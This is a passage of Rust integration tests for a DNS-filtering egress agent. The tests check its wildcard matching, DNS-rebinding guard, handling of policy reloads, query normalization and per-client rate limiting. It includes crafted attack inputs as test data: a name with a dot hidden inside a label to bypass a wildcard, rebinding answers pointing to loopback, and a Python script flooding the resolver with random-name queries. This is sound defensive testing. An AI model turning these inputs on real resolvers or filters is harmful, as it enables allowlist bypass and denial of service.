    assert!(l4.wait_accepted(1, WAIT), "the listener saw the connection");
    let asked = world
        .log()
        .lines()
        .filter(|l| l.contains("query[A] allowed.example.com"))
        .count();
    assert_eq!(
        asked,
        1,
        "the upstream answered the A query once; the repeat came from the cache\n{}",
        world.log()
    );
}

/// A name whose first wire label holds a dot (`["x.ok", "example", "com"]`) reads as
/// `x\.ok.example.com`: as text it lines up with `*.ok.example.com`, label by label it does
/// not. It is refused and never reaches the upstream; a real name below the wildcard still
/// resolves.
#[test]
fn a_dot_inside_a_label_is_refused_and_never_forwarded() {
    let world = DnsWorld::builder()
        .address("ok.example.com", "198.51.100.17")
        .start();
    let (run, out) = run_script(
        &world,
        &policy("  - host: \"*.ok.example.com\"\n    ports: [8080]\n"),
        r#"
out["crafted"] = dns_udp(wire_query([b"x.ok", b"example", b"com"]))
out["legit"] = resolve("a.ok.example.com")
"#,
    );
    assert_eq!(
        out["crafted"]["rcode"],
        5,
        "the crafted name is REFUSED: {}\n{}",
        out["crafted"],
        run.context()
    );
    assert_resolved(&run, &out, "legit", &["198.51.100.17"]);
    assert_eq!(
        refused_for(&run, "x\\.ok.example.com").len(),
        1,
        "one dns-refused event names the crafted name, escaped\n{}",
        run.context()
    );
    assert!(
        world.wait_query("a.ok.example.com", WAIT),
        "the real name (asked last) reached dnsmasq\n{}",
        world.log()
    );
    let q: Vec<_> = world
        .queries()
        .into_iter()
        .filter(|n| n.contains("ok.example.com"))
        .collect();
    assert!(
        q.iter().all(|n| n == "a.ok.example.com"),
        "the crafted name reached the upstream: {q:?}\n{}",
        world.log()
    );
}

/// An allowed name that answers a loopback or unspecified address (any family, mapped forms
/// too) does not open the machine itself: the rebinding guard keeps them out of the DNS map,
/// with a warning. With `dns.block_private`, private ranges are kept out too. A `cidr:` rule
/// naming the address still allows it.
#[test]
fn dns_answers_never_open_loopback_and_by_option_private_ranges() {
    let world = DnsWorld::builder()
        .address("loop.example.com", "127.0.0.1")
        .address("loop.example.com", "::1")
        .address("zero.example.com", "0.0.0.0")
        .address("mapped.example.com", "::ffff:127.0.0.1")
        // Not on lo: an allowed connect fails with ENETUNREACH, a denied one with EPERM.
        .address("private.example.com", "10.0.0.1")
        .start();
    let l4 = EchoListener::bind(world.netns(), "127.0.0.1:8080".parse().expect("address"));
    let l6 = EchoListener::bind(world.netns(), "[::1]:8080".parse().expect("address"));
    let rules = "  - host: \"*.example.com\"\n    ports: [8080]\n";
    let body = r#"
out["r4"] = resolve("loop.example.com", socket.AF_INET)
out["c4"] = tcp("127.0.0.1", 8080)
out["r6"] = resolve("loop.example.com", socket.AF_INET6)
out["c6"] = tcp("::1", 8080)
out["rzero"] = resolve("zero.example.com", socket.AF_INET)
out["czero"] = tcp("0.0.0.0", 8080)
out["rmapped"] = resolve("mapped.example.com", socket.AF_INET6)
out["cmapped"] = tcp("::ffff:127.0.0.1", 8080)
out["rprivate"] = resolve("private.example.com", socket.AF_INET)
out["cprivate"] = tcp("10.0.0.1", 8080)
"#;
    let (run, out) = run_script(&world, &policy(rules), body);
    // The names resolve (the answer is passed on), but the addresses stay closed.
    assert_resolved(&run, &out, "r4", &["127.0.0.1"]);
    assert_resolved(&run, &out, "r6", &["::1"]);
    assert_resolved(&run, &out, "rzero", &["0.0.0.0"]);
    assert_resolved(&run, &out, "rmapped", &["::ffff:127.0.0.1"]);
    for key in ["c4", "c6", "czero", "cmapped"] {
        assert_eperm(&run, &out, key);
    }
    assert_eq!(
        (l4.accepted(), l6.accepted()),
        (0, 0),
        "nothing reached loopback\n{}",
        run.context()
    );
    let warned = |ip: &str| {
        run.events_of("warning").iter().any(|w| {
            let m = w["message"].as_str().unwrap_or_default();
            m.contains(&format!("answered {ip},")) && m.contains("rebinding guard")
        })
    };
    for ip in ["127.0.0.1", "::1", "0.0.0.0", "::ffff:127.0.0.1"] {
        assert!(warned(ip), "a warning names {ip}\n{}", run.context());
    }
    // Private ranges are not guarded by default: the address was allowed (the connect got
    // as far as routing, which has no route to it here).
    assert_resolved(&run, &out, "rprivate", &["10.0.0.1"]);
    assert_eq!(
        out["cprivate"]["error"],
        "ENETUNREACH",
        "a private address answered for an allowed name is allowed by default: {}\n{}",
        out["cprivate"],
        run.context()
    );

    // block_private, and a cidr rule naming 127.0.0.1.
    let strict = format!(
        "version: 1\nname: dns-test\ndns:\n  upstream: [\"{UPSTREAM}\"]\n  min_ttl: 0s\n  \
         grace: 0s\n  block_private: true\nallow:\n{rules}  - cidr: 127.0.0.1/32\n    ports: [8080]\n"
    );
    let (run, out) = run_script(&world, &strict, body);
    assert_connected(&run, &out, "c4");
    assert!(
        l4.wait_accepted(1, WAIT),
        "the cidr rule opens 127.0.0.1\n{}",
        run.context()
    );
    assert_eperm(&run, &out, "c6");
    assert_eq!(l6.accepted(), 0, "::1 is named by no rule");
    assert_resolved(&run, &out, "rprivate", &["10.0.0.1"]);
    assert_eperm(&run, &out, "cprivate");
    assert!(
        run.events_of("warning").iter().any(|w| {
            let m = w["message"].as_str().unwrap_or_default();
            m.contains("answered 10.0.0.1,") && m.contains("private")
        }),
        "a warning names the private address\n{}",
        run.context()
    );
}

/// Where the tests' own upstream ([`FakeUpstream`]) listens.
const FAKE_IP: &str = "192.0.2.54";
const FAKE: &str = "192.0.2.54:53";

/// A policy reloaded while a query is upstream: the answer is judged by the policy in force
/// when it comes back. The upstream holds the answers to a name the new policy drops and to a
/// name both policies permit until the reload is applied; then the dropped name is REFUSED and
/// its address never allowed, while the other resolves and connects.
#[test]
fn a_query_in_flight_across_a_reload_is_judged_by_the_new_policy() {
    let world = DnsWorld::builder().local_addr(FAKE_IP).start();
    let upstream = FakeUpstream::start(
        world.netns(),
        FAKE,
        &[
            ("dropped.example.com", "198.51.100.31"),
            ("kept.example.com", "198.51.100.32"),
        ],
        300,
    );
    upstream.hold("dropped.example.com");
    upstream.hold("kept.example.com");
    let dropped = world.listen_tcp("198.51.100.31:8080");
    let kept = world.listen_tcp("198.51.100.32:8080");
    let files = TestDir::new();
    let pins = AgentPins::new(&unique_name());
    let pod = Pod::new();
    let allowlist = files.path().join("allowlist.yaml");
    let rules = |names: &[&str]| {
        let mut r = String::new();
        for n in names {
            r.push_str(&format!(
                "  - host: {n}\n    ports: [8080]\n    name_check: false\n"
            ));
        }
        policy_with("0s", "0s", FAKE, &r)
    };
    fs::write(
        &allowlist,
        rules(&["dropped.example.com", "kept.example.com"]),
    )
    .expect("allowlist");
    let mut agent = AttachAgent::builder(world.netns(), &pod.sidecar(), files.path())
        .arg("--cgroup")
        .arg(pod.path())
        .arg("--name")
        .arg(pins.name())
        .arg("--allowlist")
        .arg(&allowlist)
        .start();
    agent.wait_ready();

    // The app asks for both names at once, then connects to both addresses.
    let script = format!(
        r#"{PRELUDE}
import threading
res = {{}}
def ask(name):
    res[name] = dns_udp(wire_query([l.encode() for l in name.split(".")]), timeout=8)
threads = [threading.Thread(target=ask, args=(n,)) for n in ("dropped.example.com", "kept.example.com")]
for t in threads: t.start()
for t in threads: t.join()
out["dropped"] = res["dropped.example.com"]
out["kept"] = res["kept.example.com"]
out["c_dropped"] = tcp("198.51.100.31", 8080)
out["c_kept"] = tcp("198.51.100.32", 8080)
print(json.dumps(out), flush=True)
"#
    );
    let stdout = files.path().join("app.stdout");
    let mut app = pod
        .command(world.netns(), &pod.app(), python3())
        .arg("-c")
        .arg(&script)
        .stdin(Stdio::null())
        .stdout(File::create(&stdout).expect("stdout file"))
        .stderr(Stdio::null())
        .spawn()
        .expect("cannot start python3");
    let both_upstream = poll_until(WAIT, || (upstream.count() >= 2).then_some(()));
    // The reload while both queries are upstream (the agent waits 2 s for an answer; the
    // watcher looks at the file every second).
    let seen = agent.events().len();
    fs::write(&allowlist, rules(&["kept.example.com"])).expect("allowlist");
    let reloaded = agent.wait_event(Duration::from_secs(3), |e| {
        e["event"] == "policy-reloaded" || e["event"] == "policy-rejected"
    });
    upstream.release();
    let status = poll_until(Duration::from_secs(20), || app.try_wait().ok().flatten());
    if status.is_none() {
        // The process this test started.
        let _ = app.kill();
        let _ = app.wait();
    }
    assert!(
        both_upstream.is_some(),
        "both queries reached the upstream: {:?}\n{}",
        upstream.received(),
        agent.output()
    );
    assert_eq!(
        reloaded.as_ref().map(|e| e["event"].clone()),
        Some(Value::from("policy-reloaded")),
        "the reload was applied while the answers were held\n{}",
        agent.output()
    );
    assert!(
        agent.events().len() > seen,
        "events were written after the reload"
    );
    let text = fs::read_to_string(&stdout).unwrap_or_default();
    let out: Value = text
        .lines()
        .rev()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| panic!("the app printed no JSON: {text}\n{}", agent.output()));
    assert_eq!(
        out["kept"]["rcode"],
        0,
        "a name both policies permit resolves across the reload: {out}\n{}",
        agent.output()
    );
    assert_eq!(out["kept"]["ancount"], 1, "{out}");
    assert_eq!(
        out["c_kept"]["echo"],
        "ping\n",
        "and connects: {out}\n{}",
        agent.output()
    );
    assert_eq!(
        out["dropped"]["rcode"],
        5,
        "the name the new policy drops is REFUSED when its answer comes back: {out}\n{}",
        agent.output()
    );
    assert_eq!(
        out["c_dropped"]["error"],
        "EPERM",
        "its address is not allowed: {out}\n{}",
        agent.output()
    );
    assert_eq!(
        dropped.accepted(),
        0,
        "the dropped name's address got a connection"
    );
    assert!(
        kept.wait_accepted(1, WAIT),
        "the kept name's address got its connection"
    );
    assert!(
        agent
            .events_of("dns-refused")
            .iter()
            .any(|e| e["query"] == "dropped.example.com"),
        "the refusal is reported\n{}",
        agent.output()
    );
    agent.terminate();
}

/// What reaches the upstream for a permitted name is rebuilt by the agent: lower case, a
/// fresh id, recursion desired and no other flag, our own EDNS record (payload 1232, no
/// options, DNSSEC OK clear) whatever the client sent. The client gets its own question back
/// (its letter case) and its id. Types other than A, AAAA, CNAME and HTTPS are refused and
/// never forwarded.
#[test]
fn forwarded_queries_are_normalized() {
    let world = DnsWorld::builder().local_addr(FAKE_IP).start();
    let upstream = FakeUpstream::start(
        world.netns(),
        FAKE,
        &[("allowed.example.com", "198.51.100.10")],
        300,
    );
    let l = world.listen_tcp("198.51.100.10:8080");
    // Flags: RD, AD and CD set, and bit 6 (Z). EDNS: payload 4000, DO set, a padding option
    // (12) and an unassigned one (65001) carrying data.
    let (run, out) = run_script(
        &world,
        &policy_with("0s", "0s", FAKE, ALLOWED_TCP_8080),
        r#"
opt = (b"\0" + (41).to_bytes(2, "big") + (4000).to_bytes(2, "big") + b"\0\0\x80\0"
       + (4 + 5 + 4 + 3).to_bytes(2, "big")
       + (12).to_bytes(2, "big") + (5).to_bytes(2, "big") + b"\0" * 5
       + (65001).to_bytes(2, "big") + (3).to_bytes(2, "big") + b"abc")
q = wire_query([b"AlLoWeD", b"ExAmPlE", b"cOm"], qid=0xBEEF, flags=0x0170, additional=opt)
out["a"] = dns_udp(q)
reply = bytes.fromhex(out["a"]["reply"])
out["question"] = reply[12:12 + 1 + 7 + 1 + 7 + 1 + 3 + 1].decode("latin-1")
out["txt"] = dns_udp(wire_query([b"allowed", b"example", b"com"], qtype=16))
out["mx"] = dns_udp(wire_query([b"allowed", b"example", b"com"], qtype=15))
out["chaos"] = dns_udp(wire_query([b"allowed", b"example", b"com"], qclass=3))
out["c"] = tcp("198.51.100.10", 8080)
"#,
    );
    assert_eq!(out["a"]["rcode"], 0, "{out}\n{}", run.context());
    assert_eq!(out["a"]["ancount"], 1, "{out}");
    assert_eq!(out["a"]["id"], 0xBEEF, "the client's id comes back: {out}");
    assert_eq!(
        out["question"], "\u{7}AlLoWeD\u{7}ExAmPlE\u{3}cOm\0",
        "the client's question comes back as asked: {out}"
    );
    for k in ["txt", "mx", "chaos"] {
        assert_eq!(
            out[k]["rcode"],
            5,
            "{k} for a permitted name is REFUSED: {out}\n{}",
            run.context()
        );
    }
    let got = upstream.received();
    assert_eq!(
        got.len(),
        1,
        "only the A query reached the upstream: {got:?}\n{}",
        run.context()
    );
    let q = &got[0];
    assert_eq!(q.name(), "allowed.example.com", "lower case: {q:?}");
    assert_eq!((q.qtype, q.qclass), (1, 1), "{q:?}");
    assert_ne!(q.id(), 0xBEEF, "a fresh id: {q:?}");
    assert_eq!(
        q.flags(),
        0x0100,
        "recursion desired, no other flag: {:#06x}",
        q.flags()
    );
    // ARCOUNT 1: one OPT record for the root, payload 1232, no extended flags, no options.
    assert_eq!(&q.bytes[10..12], &[0, 1], "one additional record: {q:?}");
    assert_eq!(
        q.after_question(),
        &[0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0, 0, 0][..],
        "our own EDNS record only: {q:?}"
    );
    assert_eq!(
        out["c"]["echo"],
        "ping\n",
        "the answered address is allowed: {out}\n{}",
        run.context()
    );
    assert!(l.wait_accepted(1, WAIT), "the connection arrived");
    for (name, qtype) in [
        ("allowed.example.com", "TXT"),
        ("allowed.example.com", "MX"),
    ] {
        assert!(
            run.events_of("dns-refused")
                .iter()
                .any(|e| e["query"] == name && e["qtype"] == qtype),
            "the refused {qtype} query is reported\n{}",
            run.context()
        );
    }
}

/// The agent's resident memory (VmRSS), in KiB.
fn rss_kib(pid: u32) -> u64 {
    fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmRSS:"))
                .and_then(|r| r.split_whitespace().next()?.parse().ok())
        })
        .unwrap_or(0)
}

/// A flood of random names under a wildcard from one socket (4 s, at most 2 M queries) is cut
/// to that client's rate: another client's lookups (each a new name, so each forwarded) keep
/// being answered promptly, most of the flood never reaches the upstream, and the agent's
/// memory returns near where it started once the flood's answers expired.
#[test]
fn a_flood_from_one_client_degrades_only_that_client() {
    let world = DnsWorld::builder().local_addr(FAKE_IP).start();
    let upstream = FakeUpstream::start(
        world.netns(),
        FAKE,
        &[
            ("flood.example.com", "198.51.100.40"),
            ("legit.example.com", "198.51.100.41"),
        ],
        1,
    );
    let allowlist = policy_with(
        "0s",
        "0s",
        FAKE,
        "  - host: \"*.flood.example.com\"\n    ports: [443]\n  - host: \"*.legit.example.com\"\n    ports: [443]\n",
    );
    let script = format!(
        r#"{PRELUDE}
import random, threading
print("baseline", flush=True)
time.sleep(2.0)
stop = time.monotonic() + 4.0
sent = [0]
def flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    i = 0
    while time.monotonic() < stop and i < 2_000_000:
        try:
            s.sendto(wire_query([b"f%x" % random.getrandbits(48), b"flood", b"example", b"com"], qid=i & 0xFFFF), ("192.0.2.53", 53))
            i += 1
        except BlockingIOError:
            pass
        try:
            while True:
                s.recv(512)
        except BlockingIOError:
            pass
    sent[0] = i
t = threading.Thread(target=flood)
t.start()
lat, fails, j = [], [], 0
while time.monotonic() < stop:
    t0 = time.monotonic()
    r = dns_udp(wire_query([b"l%d" % j, b"legit", b"example", b"com"]), timeout=2)
    dt = time.monotonic() - t0
    if r.get("rcode") == 0 and r.get("ancount") == 1:
        lat.append(dt)
    else:
        fails.append(r)
    j += 1
    time.sleep(0.05)
t.join()
out["sent"] = sent[0]
out["legit"] = len(lat)
out["max_latency"] = max(lat) if lat else None
out["failed"] = len(fails)
out["fails"] = fails[:3]
print(json.dumps(out), flush=True)
time.sleep(5.0)
"#
    );
    let mut agent =
        AgentRun::builder(world.netns(), &allowlist, &[python3(), "-c", &script]).start();
    agent.wait_ready();
    let baseline = poll_until(Duration::from_secs(10), || {
        agent.stdout().contains("baseline").then_some(())
    });
    assert!(baseline.is_some(), "the script started\n{}", agent.output());
    std::thread::sleep(Duration::from_millis(1500));
    let before = rss_kib(agent.pid());
    let out = poll_until(Duration::from_secs(15), || {
        agent
            .stdout()
            .lines()
            .find_map(|l| serde_json::from_str::<Value>(l).ok())
    })
    .unwrap_or_else(|| panic!("no result from the script\n{}", agent.output()));
    let during = rss_kib(agent.pid());
    // The flood's answers had TTL 1 s: their grants expire and are swept within 2 s.
    std::thread::sleep(Duration::from_secs(3));
    let after = rss_kib(agent.pid());
    let code = agent.exit_code();
    let flood_upstream = upstream
        .received()
        .iter()
        .filter(|q| q.name().ends_with("flood.example.com"))
        .count();
    eprintln!(
        "flood: {} sent, {flood_upstream} reached the upstream; legit: {} answered, {} failed, \
         max latency {}; agent RSS {before} KiB before, {during} during, {after} after",
        out["sent"], out["legit"], out["failed"], out["max_latency"]
    );
    assert_eq!(code, 0, "{}", agent.output());
    assert!(
        out["sent"].as_u64().unwrap_or(0) > 10_000,
        "a flood was sent: {out}"
    );
    assert_eq!(
        out["failed"],
        0,
        "every lookup of the other client was answered during the flood: {out}\n{}",
        agent.output()
    );
    assert!(
        out["legit"].as_u64().unwrap_or(0) >= 30,
        "the other client kept resolving: {out}"
    );
    assert!(
        out["max_latency"].as_f64().unwrap_or(f64::MAX) < 1.0,
        "within a second each: {out}"
    );
    assert!(
        (flood_upstream as u64) < out["sent"].as_u64().unwrap_or(0) / 4,
        "most of the flood never reached the upstream ({flood_upstream} did): {out}"
    );
    assert!(
        after <= before + 8 * 1024,
        "the agent's memory returns near its start: {before} KiB before, {during} during, \
         {after} after"
    );
}
